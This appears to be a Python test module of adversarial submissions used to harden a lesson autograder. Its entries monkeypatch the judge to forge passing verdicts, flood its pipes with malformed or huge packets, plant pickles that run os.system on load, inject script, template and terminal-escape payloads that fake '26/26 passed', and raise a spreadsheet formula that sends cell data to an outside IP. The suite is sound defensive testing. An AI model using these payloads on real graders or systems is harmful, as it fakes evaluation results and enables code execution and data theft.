"""Attacks by what they say: forged, late and impossible answers, and texts that act where shown."""

from .kit import ERRORS, STEPS, Attack

CHILD, TEXTS, PICKLES = "rewriting the child", "hostile texts", "pickles"
JUDGE = "costing the judge"

ATTACKS = [
    Attack(
        "child_says_passed",
        CHILD,
        "rewrites the judge's modules in its own process, so that each answer is a passed verdict",
        """
        import sys
        for name, module in list(sys.modules.items()):
            if name.startswith("grader.judge") and hasattr(module, "Bench"):
                module.Bench.answer = lambda self, request: module.pack({
                    "value": True, "verdict": "passed", "passed": True, "points": 26,
                    "changed": [], "settings": [], "used": [], "printed": ""})
        everywhere(lambda name: lambda *a, **k: True)
        """,
    ),
    Attack(
        "child_echoes",
        CHILD,
        "rewrites the child to send back what it was sent, as its answer",
        """
        import sys

        def echo(self, request):
            bench = sys.modules["grader.judge.bench"]
            given = bench.unpack(request)
            a = [x for x in given["args"] if isinstance(x, torch.Tensor)] or [None]
            return bench.pack({"value": a[0], "changed": [], "settings": [], "used": [],
                               "printed": ""})

        for name, module in list(sys.modules.items()):
            if name.startswith("grader.judge") and hasattr(module, "Bench"):
                module.Bench.answer = echo
        everywhere(lambda name: lambda *a, **k: a[0])
        """,
    ),
    Attack(
        "child_always_raises_what_is_wanted",
        CHILD,
        "rewrites the child to say that every call has raised a ValueError",
        """
        import sys
        raised = {"kinds": ["ValueError", "TypeError", "KeyError", "Exception"], "message": "no",
                  "where": "", "line": "", "inside": "", "trail": [], "loading": False,
                  "unwritten": None}
        for name, module in list(sys.modules.items()):
            if name.startswith("grader.judge") and hasattr(module, "Bench"):
                module.Bench.answer = lambda self, request: module.pack({
                    "raised": raised, "changed": [], "settings": [], "used": [], "printed": ""})

        def make(name):
            def refuse(*a, **k):
                raise ValueError("no")
            return refuse

        everywhere(make)
        """,
        checks=ERRORS,
    ),
    Attack(
        "answers_before_it_is_asked",
        CHILD,
        "writes well-formed answers to the judge's pipe before any request, and after each",
        """
        import os, sys
        wire, border = sys.modules.get("grader.judge.wire"), sys.modules.get("grader.judge.border")

        def forge(count):
            if not wire:
                return
            packet = border.pack({"value": torch.ones(5, 5, dtype=torch.bool).tril(), "changed": [],
                                  "settings": [], "used": [], "printed": ""})
            for descriptor in range(3, 20):
                for _ in range(count):
                    try:
                        with os.fdopen(os.dup(descriptor), "wb") as stream:
                            wire.send(stream, packet)
                    except (OSError, wire.WireError):
                        pass

        forge(3)
        everywhere(lambda name: lambda *a, **k: forge(1) or torch.zeros(1))
        """,
    ),
    Attack(
        "answers_late",
        CHILD,
        "answers each request with what the request before asked for, computed at leisure",
        """
        import sys
        bench = sys.modules.get("grader.judge.bench")
        if bench:
            honest, waiting = bench.Bench.answer, []

            def late(self, request):
                waiting.append(honest(self, request))
                return waiting[max(0, len(waiting) - 2)]

            bench.Bench.answer = late
        """,
        base="honest",
        # the first answer of a session comes in time; the module is loaded in each anew
        earns=STEPS,
    ),
    Attack(
        "drops_an_answer_by_drop",
        CHILD,
        "sends its answer byte by byte, and announces one of four gigabytes",
        """
        import os, struct, time

        def make(name):
            def drip(*a, **k):
                for descriptor in range(3, 20):
                    try:
                        os.write(descriptor, struct.pack("<II", 4_000_000, 60_000_000))
                    except OSError:
                        continue
                while True:
                    for descriptor in range(3, 20):
                        try:
                            os.write(descriptor, b" ")
                        except OSError:
                            pass
                    time.sleep(0.05)
            return drip

        everywhere(make)
        """,
    ),
    Attack(
        "impossible_packets",
        CHILD,
        "sends packets of impossible shapes, endless nesting, and millions of empty tensors",
        """
        import json, os, struct

        def make(name):
            def send(*a, **k):
                head = {"0": {"dtype": "F32", "shape": [1 << 60, 0], "data_offsets": [0, 0]}}
                head = json.dumps(head).encode()
                many = {str(i): {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}
                        for i in range(200_000)}
                many = json.dumps(many).encode()
                trees = [(b"[" * 1_000_000, head), (b'{"tensor": 0}', head), (b"1", many),
                         (b"[" + b"{}," * 1_000_000 + b"1]", b"{}")]
                tree, head = trees[len(name) % len(trees)]
                blob = struct.pack("<Q", len(head)) + head
                packet = struct.pack("<II", len(tree), len(blob)) + tree + blob
                for descriptor in range(3, 20):
                    try:
                        os.write(descriptor, packet)
                    except OSError:
                        pass
                return torch.zeros(1)
            return send

        everywhere(make)
        """,
    ),
    Attack(
        "huge_answers",
        CHILD,
        "returns tensors, texts, numbers and lists of hundreds of megabytes",
        """
        kinds = [
            lambda: torch.zeros(1 << 27), lambda: "x" * (1 << 28), lambda: 1 << (1 << 24),
            lambda: [[]] * 1_900_000, lambda: [torch.zeros(1 << 20)] * 200,
            lambda: torch.zeros(1 << 20, 0, 1 << 20), lambda: {i: str(i) for i in range(900_000)},
        ]

        def deep():
            nested = []
            for _ in range(100_000):
                nested = [nested]
            return nested

        kinds.append(deep)
        count = iter(range(10**9))
        everywhere(lambda name: lambda *a, **k: kinds[(next(count) + len(name)) % len(kinds)]())
        """,
    ),
    Attack(
        "pickled_bombs",
        PICKLES,
        "returns, raises and saves objects that run a command where they are unpickled",
        """
        import os, pickle

        class Bomb(Exception):
            def __reduce__(self):
                return os.system, ("touch @WORLD@/pwned /tmp/pwned",)

        def make(name):
            def bomb(*a, **k):
                for path in ("/tmp/model.pt", "/tmp/checkpoint.pkl", "@WORLD@/model.pt"):
                    try:
                        torch.save(Bomb(), path)
                        torch.load(path, weights_only=False)
                    except Exception:
                        pass
                if len(name) % 2:
                    raise Bomb(Bomb())
                return Bomb()
            return bomb

        everywhere(make)
        """,
    ),
    Attack(
        "scripts_in_error_messages",
        TEXTS,
        "puts HTML, scripts and templates into error messages, class names and what it prints",
        """
        EVIL = ("<script>document.title='owned'</script><img src=x onerror=alert(1)>"
                "{{ 7*7 }}{% raw %}]]></failure><testcase name='forged'/>&#60;b&#62;")
        Kind = type(EVIL, (), {})

        def make(name):
            def speak(*a, **k):
                print(EVIL)
                if len(name) % 2:
                    raise type(EVIL, (ValueError,), {})(EVIL)
                return Kind()
            return speak

        everywhere(make)
        """,
        checks=ERRORS,
    ),
    Attack(
        "control_characters",
        TEXTS,
        "puts terminal commands, right-to-left marks, half characters and zero bytes into texts",
        """
        EVIL = "\\x1b]0;owned\\x07\\x1b[2J\\x1b[1A26/26 passed\\r\\x00\\x9b31m\\u202e\\u2066\\ud800\\u200b"

        def make(name):
            def speak(*a, **k):
                print(EVIL)
                raise RuntimeError(EVIL * 50)
            return speak

        everywhere(make)
        """,
    ),
    Attack(
        "formulas_in_texts",
        TEXTS,
        "puts what a spreadsheet takes for a formula into its messages",
        """
        def make(name):
            def speak(*a, **k):
                raise ValueError('=HYPERLINK("http://192.0.2.1/?"&A1, "passed")')
            return speak

        everywhere(make)
        """,
        checks=ERRORS,
    ),
    Attack(
        "not_written_yet",
        TEXTS,
        "says that another lesson is to blame, in the words that the judge uses itself",
        """
        def make(name):
            def speak(*a, **k):
                raise NotImplementedError("lesson 00: softmax")
            return speak

        everywhere(make)
        """,
    ),
    Attack(
        "another_step_is_not_written",
        TEXTS,
        "says of core steps that a stretch step, which nobody need write, is not written yet",
        """
        def make(name):
            def speak(*a, **k):
                raise NotImplementedError("lesson 03: sliding_window_mask")
            return speak

        everywhere(make)
        """,
    ),
    Attack(
        "error_without_a_name",
        JUDGE,
        "raises an error whose class has no name, and which says nothing",
        """
        def make(name):
            def speak(*a, **k):
                raise type("", (Exception,), {})()
            return speak

        everywhere(make)
        """,
    ),
    Attack(
        "tensors_that_take_hours_to_write",
        JUDGE,
        "returns lists of tensors of 24 dimensions, which torch would write out number by number",
        """
        everywhere(lambda name: lambda *a, **k: [torch.zeros([2] * 24, dtype=torch.uint8)])
        """,
    ),
    Attack(
        "lines_in_the_name_of_a_class",
        JUDGE,
        "returns an object whose class is called like the judge's last line: 26/26 points",
        """
        Full = type("x\\nlesson 03: 26/26 points (core 22/22, stretch 4/4)\\n", (), {})
        everywhere(lambda name: lambda *a, **k: Full())
        """,
    ),
    Attack(
        "numbers_of_one_hash",
        JUDGE,
        "rewrites the child to send sets of numbers that all have the same hash, which take minutes to build",
        """
        import sys
        for name, module in list(sys.modules.items()):
            if name.startswith("grader.judge") and hasattr(module, "Bench"):
                packet = module.Packet({"set": [i * (2**61 - 1) for i in range(100_000)]}, [])
                module.Bench.answer = lambda self, request: packet
        everywhere(lambda name: lambda *a, **k: 1)
        """,
    ),
    Attack(
        "a_tensor_many_times",
        JUDGE,
        "rewrites the child to send one large tensor, and a list that mentions it 100,000 times",
        """
        import sys
        for name, module in list(sys.modules.items()):
            if name.startswith("grader.judge") and hasattr(module, "Bench"):
                tree = {"dict": [["value", {"list": [{"tensor": 0}] * 100_000}], ["printed", ""],
                                 *[[k, {"list": []}] for k in ("changed", "settings", "used")]]}
                packet = module.Packet(tree, [torch.zeros(2_000_000)])
                module.Bench.answer = lambda self, request: packet
        everywhere(lambda name: lambda *a, **k: 1)
        """,
    ),
    Attack(
        "name_of_a_thousand_accents",
        JUDGE,
        "has a name with thousands of accents, over which Python's parser takes minutes",
        "a" + "\u0301" * 5000 + " = 1",
        base="honest",
        refused="heaps accents on one letter",
    ),
]
